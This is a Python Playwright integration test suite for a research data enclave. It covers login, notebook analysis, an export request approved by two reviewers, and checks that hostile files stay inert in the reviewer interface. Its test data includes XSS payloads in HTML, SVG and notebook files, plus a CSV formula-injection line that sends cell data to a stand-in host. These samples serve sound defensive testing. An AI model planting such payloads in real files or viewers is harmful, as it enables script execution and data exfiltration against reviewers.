"""A researcher in a real browser: OIDC login, project choice, JupyterLab, a polars cell on the demo data."""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from enclave.demo import DEMO_PROJECT
from enclave.harness import run_in
from tests.integration.conftest import Enclave

CHROMIUM = "/usr/bin/chromium"
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage"]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS, headless=True)
        yield b
        b.close()


def login(page: Page, enclave: Enclave, username: str) -> None:
    page.goto(f"{enclave.url}/hub/login")
    page.click("#idp-login")
    page.wait_for_url(f"{enclave.settings.idp_url}/authorize*")
    page.fill("#username", username)
    page.fill("#password", enclave.passwords[username])
    page.click("#login")


def run_cell(page: Page, code: str, expect_text: str, index: int) -> None:
    """Type into the active notebook cell, run it, and wait for its output."""
    cell = page.locator(".jp-Notebook .jp-Cell .cm-content").nth(index)
    cell.click()
    page.keyboard.type(code)
    page.keyboard.press("Shift+Enter")
    expect(page.locator(".jp-Notebook .jp-Cell").nth(index).locator(".jp-OutputArea-output")).to_contain_text(
        expect_text, timeout=90_000)


def review_in_ui(browser: Browser, enclave: Enclave, reviewer: str, rid: int, decision: str, comment: str) -> str:
    context = browser.new_context(locale="zh-CN" if reviewer == "carol" else "en-US")
    page = context.new_page()
    page.set_default_timeout(60_000)
    try:
        login(page, enclave, reviewer)
        page.wait_for_url("**/hub/**")
        page.goto(f"{enclave.url}/services/egress-review/")
        page.locator(f"#queue tr[data-request='{rid}'] a").click()
        for fs in page.locator("fieldset.file").all():
            fs.locator(f"input[value='{decision}']").check()
            fs.locator("textarea").fill(comment)
        page.locator(f"#review-form fieldset:not(.file) input[value='{decision}']").check()
        page.fill("textarea[name=comment_to_requester]", comment)
        page.click("#submit-review")
        page.click("#confirm")  # the decision is asked for again on a page of its own before it is recorded
        page.wait_for_url(re.compile(rf"/requests/{rid}\?done=reviewed"))
        return page.locator("#state").inner_text()
    finally:
        context.close()


def test_researcher_analyses_exports_from_jupyterlab_and_downloads_after_two_reviews(
        enclave: Enclave, browser: Browser, tmp_path):
    context = browser.new_context(locale="en-US", viewport={"width": 1400, "height": 900}, accept_downloads=True)
    page = context.new_page()
    page.set_default_timeout(60_000)
    try:
        login(page, enclave, "alice")
        page.wait_for_url("**/hub/spawn*")
        expect(page.locator("#project")).to_be_visible()
        page.select_option("#project", DEMO_PROJECT)
        page.click("#start-workspace")
        page.wait_for_url("**/user/alice/lab/**", timeout=120_000)
        page.locator(".jp-LauncherCard[data-category='Notebook']").first.click()
        expect(page.locator(".jp-Notebook .jp-Cell .cm-content").first).to_be_visible()
        expect(page.locator(".jp-StatusBar-Widget").filter(has_text="Idle").first).to_be_visible(timeout=90_000)
        run_cell(page, "import polars as pl\n"
                       "df = pl.read_parquet('/data/cohort/cohort.parquet')\n"
                       "print('ROWS', df.height, 'READMITTED', df['readmitted'].sum())", "ROWS 20000", 0)
        # results written and sent for export from the notebook, no terminal
        run_cell(page, "import os; os.makedirs('/workspace/results', exist_ok=True)\n"
                       "df.group_by('sex').agg(pl.len().alias('n')).sort('sex').write_csv('/workspace/results/by_sex.csv')\n"
                       "from enclave_export import request_export\n"
                       "r = request_export(['results/by_sex.csv'], 'Counts by sex for the paper')\n"
                       "print('EXPORT', r['id'], r['state'], r['files'][0]['verdict'])", "EXPORT", 1)
        out = page.locator(".jp-Notebook .jp-Cell").nth(1).locator(".jp-OutputArea-output").inner_text()
        rid = int(out.split()[1])
        assert "submitted pass" in out, out
        # a file with a resident ID number is blocked by the automated checks
        run_cell(page, "open('/workspace/results/ids.txt', 'w').write('身份证号 11010519491231002X')\n"
                       "b = request_export(['results/ids.txt'], 'list of patients')\n"
                       "print('BLOCKED', b['id'], b['files'][0]['verdict'], b['files'][0]['findings'][0]['kind'])",
                 "BLOCKED", 2)
        out = page.locator(".jp-Notebook .jp-Cell").nth(2).locator(".jp-OutputArea-output").inner_text()
        assert "block CN_RESIDENT_ID" in out, out
        blocked_id = int(out.split()[1])

        # two reviewers, each in their own browser, approve in the UI (one in English, one in Chinese)
        assert review_in_ui(browser, enclave, "bob", rid, "approve", "Aggregate counts, all above 10.") == "in_review"
        assert review_in_ui(browser, enclave, "carol", rid, "approve", "同意导出。") == "已发布"

        # the blocked request cannot be approved in the UI: its approve choice is disabled
        rc = browser.new_context(locale="en-US")
        rp = rc.new_page()
        login(rp, enclave, "bob")
        rp.wait_for_url("**/hub/**")
        rp.goto(f"{enclave.url}/services/egress-review/requests/{blocked_id}")
        expect(rp.locator("fieldset.file input[value='approve']")).to_be_disabled()
        expect(rp.locator("fieldset.file .verdict-block").first).to_be_visible()
        rc.close()

        # the researcher downloads the release, with its record
        page.goto(f"{enclave.url}/services/egress-review/requests/{rid}")
        expect(page.locator("#state")).to_have_text("released")
        with page.expect_download() as dl:
            page.locator("#downloads a").first.click()
        saved = tmp_path / "by_sex.csv"
        dl.value.save_as(saved)
        assert saved.read_text().splitlines()[0] == "sex,n"
        with page.expect_download() as dl:
            page.click("#results")
        record = tmp_path / "results.json"
        dl.value.save_as(record)
        rec = json.loads(record.read_text())
        assert rec["files"][0]["sha256"] == hashlib.sha256(saved.read_bytes()).hexdigest()
        # two approving reviews; who reviewed stays in the enclave's own record, not in what the requester takes out
        assert [r["decision"] for r in rec["reviews"]] == ["approve", "approve"]
        assert "bob" not in record.read_text() and "carol" not in record.read_text()
    finally:
        page.screenshot(path=str(tmp_path / "lab.png"))
        print("screenshot:", tmp_path / "lab.png")
        context.close()
        enclave.login("alice").stop()


def test_hub_pages_follow_the_browser_language(enclave: Enclave, browser: Browser):
    for locale, expected in (("zh-CN", "通过机构统一身份认证登录"), ("en-US", "Sign in with the institution")):
        context = browser.new_context(locale=locale)
        page = context.new_page()
        page.goto(f"{enclave.url}/hub/login")
        expect(page.locator("#idp-login")).to_contain_text(expected)
        page.click("#idp-login")
        page.wait_for_url(f"{enclave.settings.idp_url}/authorize*")
        expect(page.locator("#login")).to_have_text("登录" if locale == "zh-CN" else "Sign in")
        context.close()


BEACON = "/services/egress-review/pwned-"  # any request for it means a reviewed file's code ran
HOSTILE = {
    "hostile/report.html": "<html><body><h1>Results</h1><p>n = 20000</p>"
                           f"<script>window.__pwned = 1; document.title = 'PWNED'; fetch('{BEACON}html')</script>"
                           f"<img src=x onerror=\"fetch('{BEACON}img')\"></body></html>",
    "hostile/figure.svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('{BEACON}svg-onload')\">"
                          f"<script>fetch('{BEACON}svg')</script><circle r='5'/></svg>",
    "hostile/analysis.ipynb": json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "markdown", "metadata": {}, "source": f"<img src=x onerror=\"fetch('{BEACON}md')\">"},
        {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": "show()", "outputs": [
            {"output_type": "display_data", "metadata": {}, "data": {
                "text/html": f"<script>fetch('{BEACON}nb-html'); alert(1)</script><b>table</b>",
                "application/javascript": f"fetch('{BEACON}nb-js')",
                "text/plain": "table"}}]}]}),
    "hostile/table.csv": 'region,n\neast,120\n"=HYPERLINK(""http://example.invalid/?d=""&A2,""open"")",130\n',
}


def test_hostile_files_do_nothing_in_the_reviewer_ui(enclave: Enclave, browser: Browser):
    """Script in reviewed HTML, SVG and notebooks never runs for the reviewer; formulas are marked."""
    alice = enclave.login("alice")
    assert alice.start(DEMO_PROJECT).status_code in (201, 202)
    try:
        names = json.dumps(list(HOSTILE))
        code = "import json, os, subprocess\nos.makedirs('/workspace/hostile', exist_ok=True)\n" + "".join(
            f"open('/workspace/{k}', 'w').write({v!r})\n" for k, v in HOSTILE.items()) + (
            f"r = subprocess.run(['enclave-export', '--json', 'request', *{names}, '-j', 'hostile files'], "
            "capture_output=True, text=True, cwd='/workspace')\nprint(r.stdout or json.dumps({'err': r.stderr}))")
        req = run_in(enclave.container("alice"), code)
        assert "id" in req, req
    finally:
        alice.stop()
    verdicts = {f["name"]: f for f in req["files"]}
    assert verdicts["hostile/figure.svg"]["verdict"] == "block"  # script in markup is refused
    assert any(x["kind"] == "spreadsheet-formula" for x in verdicts["hostile/table.csv"]["findings"]), verdicts[
        "hostile/table.csv"]  # the requester's form of the finding: the kind of rule, no detail

    context = browser.new_context(locale="en-US")
    page = context.new_page()
    page.set_default_timeout(60_000)
    seen: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda r: seen.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    try:
        login(page, enclave, "bob")
        page.wait_for_url("**/hub/**")
        base = f"{enclave.url}/services/egress-review/requests/{req['id']}"
        resp = page.goto(base)
        assert resp is not None and "script-src" not in resp.headers["content-security-policy"]
        assert "default-src 'none'" in resp.headers["content-security-policy"]
        for f in req["files"]:
            page.goto(f"{base}/files/{f['id']}")
            page.wait_for_load_state("load")
            page.wait_for_timeout(500)  # an onload/onerror handler would have fired by now
            assert page.evaluate("window.__pwned") is None and page.title() != "PWNED"
            if f["name"].endswith((".html", ".svg", ".ipynb")):  # shown as source text, not rendered
                expect(page.locator("#content")).to_contain_text("fetch(")
            if f["name"].endswith(".csv"):
                expect(page.locator("#content td.formula")).to_have_count(1)
    finally:
        context.close()
    assert not [u for u in seen if "pwned-" in u], seen
    assert dialogs == []
